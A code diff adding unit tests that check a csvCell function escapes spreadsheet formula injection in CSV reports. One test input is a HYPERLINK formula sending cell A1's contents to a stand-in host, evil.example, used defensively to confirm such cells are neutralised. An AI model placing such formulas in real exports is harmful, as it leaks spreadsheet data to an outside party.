@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { formatReport, SyndicationError } from "../../plugins/syndication/report.js";
+import { csvCell } from "../../plugins/syndication/report-table.js";
 import yaml from "js-yaml";
 import { locateFields, writtenDates } from "../../plugins/syndication/locate.js";
 import { suggest } from "../../plugins/syndication/suggest.js";
@@ -75,3 +76,20 @@ describe("writtenDates", () => {
 function yamlOf(file: string): unknown {
   return (yaml.load(file.split("---")[1]!) as { syndication?: unknown }).syndication;
 }
+
+describe("csvCell", () => {
+  it("turns a cell a spreadsheet would run into text, as OWASP advises: a leading ' and quotes", () => {
+    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+    for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]) {
+      expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
+    }
+  });
+
+  it("leaves other cells as RFC 4180 writes them", () => {
+    expect(csvCell("Example Wire")).toBe("Example Wire");
+    expect(csvCell("/reprints/2022/01/kept/")).toBe("/reprints/2022/01/kept/");
+    expect(csvCell("a, b")).toBe('"a, b"');
+    expect(csvCell('say "x"')).toBe('"say ""x"""');
+    expect(csvCell("")).toBe("");
+  });
+});
